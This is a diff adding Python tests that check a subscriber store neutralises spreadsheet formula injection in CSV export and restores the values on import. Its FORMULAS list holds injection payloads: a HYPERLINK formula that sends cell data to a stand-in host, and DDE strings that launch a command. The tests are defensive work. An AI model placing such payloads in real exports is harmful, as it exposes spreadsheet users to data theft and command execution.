@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import os
 import signal
@@ -470,6 +471,74 @@ def test_export_then_import_round_trips(store: Store, tmp_path: Path) -> None:
         ("a@example.com", 'Ann, "the" first', Status.ACTIVE, (("city", "Oslo"),)),
         ("b@example.com", "Bo", Status.UNSUBSCRIBED, (("plan", "pro"),)),
     }
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=already quoted",
+    "''+twice",
+]
+
+
+def test_export_neutralises_formulas_and_import_gives_them_back(
+    store: Store, tmp_path: Path
+) -> None:
+    """Cells a spreadsheet would run get a leading apostrophe; our import takes it off."""
+    for i, formula in enumerate(FORMULAS):
+        store.add_subscriber(f"r{i}@example.com", formula, {"note": formula, "=key": "\tx"})
+    store.add_subscriber("=cmd@example.com", "Plain O'Neil", {"note": "it's fine"})
+    out = io.StringIO()
+    store.export_csv(out)
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    assert rows[0] == ["email", "name", "status", "created_at", "'=key", "note"]
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert ["'=cmd@example.com", "Plain O'Neil"] == rows[-1][:2] and rows[-1][-1] == "it's fine"
+    assert [row[1] for row in rows[1:-1]] == ["'" + formula for formula in FORMULAS]
+    with Store.open(":memory:") as fresh:
+        report = fresh.import_csv(write(tmp_path / "export.csv", out.getvalue()))
+        assert (report.added, report.error_count) == (len(FORMULAS) + 1, 0)
+        back = {
+            (s.email, s.name, tuple(sorted(s.fields.items()))) for s in fresh.list_subscribers()
+        }
+    assert back == {
+        (s.email, s.name, tuple(sorted(s.fields.items()))) for s in store.list_subscribers()
+    }
+
+
+_CELL = st.text(
+    alphabet=st.one_of(
+        st.sampled_from("=+-@'\t\" ,;|!"), st.characters(exclude_categories=("Cc", "Cs"))
+    ),
+    max_size=30,
+).map(str.strip)
+
+
+@given(
+    names=st.lists(_CELL, min_size=1, max_size=5),
+    notes=st.lists(_CELL, min_size=1, max_size=5),
+)
+@settings(
+    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+def test_export_then_import_gives_every_value_back(
+    tmp_path: Path, names: list[str], notes: list[str]
+) -> None:
+    with Store.open(":memory:") as source, Store.open(":memory:") as fresh:
+        for i, name in enumerate(names):
+            source.add_subscriber(f"r{i}@example.com", name, {"note": notes[i % len(notes)]})
+        out = io.StringIO()
+        source.export_csv(out)
+        cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        report = fresh.import_csv(write(tmp_path / "export.csv", out.getvalue()))
+        assert report.error_count == 0, report.errors
+        expected = {(s.email, s.name, s.fields.get("note", "")) for s in source.list_subscribers()}
+        back = {(s.email, s.name, s.fields.get("note", "")) for s in fresh.list_subscribers()}
+    assert back == expected
 
 
 def test_non_utf8_file_is_one_error_with_its_line(store: Store, tmp_path: Path) -> None:
